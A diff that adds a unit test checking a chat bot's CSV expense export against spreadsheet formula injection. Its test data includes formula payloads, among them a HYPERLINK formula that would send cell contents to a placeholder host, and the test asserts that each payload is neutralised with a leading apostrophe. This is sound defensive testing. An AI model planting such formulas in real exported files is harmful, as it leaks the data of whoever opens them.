@@ -374,6 +374,41 @@ class Export(Base):
                 for _, a, c, con, cat, d, e, u in sorted(self.rows(uid), key=lambda r: (r[5], r[0]))]
         self.assertEqual(got[1:], want)
 
+    def test_csv_cells_are_not_formulas(self):
+        """OWASP CSV injection: text cells a spreadsheet would run get a leading "'"; amounts stay numbers."""
+        uid = 600602
+        chat = self.user(uid)
+        t = today()
+        # Through the chat: the parser drops "=" and brackets but keeps a leading "@" or "+".
+        chat.say("@SUM(A1) 5€")
+        chat.say("+1 2€")
+        self.assertEqual(sorted(c for _, _, _, c, *_ in self.rows(uid)), ["+1", "@SUM A1"])
+        # Stored text the parser would not produce today: the export must not trust the way in.
+        self.insert(uid, "1.00", t, concept="=1+1")
+        self.insert(uid, "2.50", t - datetime.timedelta(days=1), concept="-2+3")
+        self.insert(uid, "3.00", t - datetime.timedelta(days=2), concept='=HYPERLINK("http://x.example/?"&A1,"y")')
+        self.insert(uid, "4.00", t - datetime.timedelta(days=3), concept="@SUM(A1)")
+        self.insert(uid, "6.00", t - datetime.timedelta(days=4), concept="+34 600\ttab")
+        self.insert(uid, "7.00", t - datetime.timedelta(days=5), concept="uno;=1+1")
+        r = chat.say("exportar gastos")
+        docs = [x for x in r if x["method"] == "sendDocument"]
+        self.assertEqual(len(docs), 1, texts(r))
+        text = docs[0]["files"]["document"]["bytes"].decode("utf-8")
+        self.assertIn('"\'=HYPERLINK(""http://x.example/?""&A1,""y"")"', text)   # quoted after the prefix
+        self.assertIn('"uno;=1+1"', text)   # one cell where Excel splits on ";"
+        got = {row[3]: row[1] for row in csv.reader(io.StringIO(text, newline=""))}
+        self.assertEqual(got, {
+            "concepto": "importe",
+            "'@SUM A1": "5.00",
+            "'+1": "2.00",
+            "'=1+1": "1.00",
+            "'-2+3": "2.50",   # amounts are > 0 (CHECK); test_csv covers a negative number cell
+            "'=HYPERLINK(\"http://x.example/?\"&A1,\"y\")": "3.00",
+            "'@SUM(A1)": "4.00",
+            "'+34 600\ttab": "6.00",
+            "uno;=1+1": "7.00",
+        })
+
 
 class Ownership(Base):
     def test_forged_callbacks_refused(self):
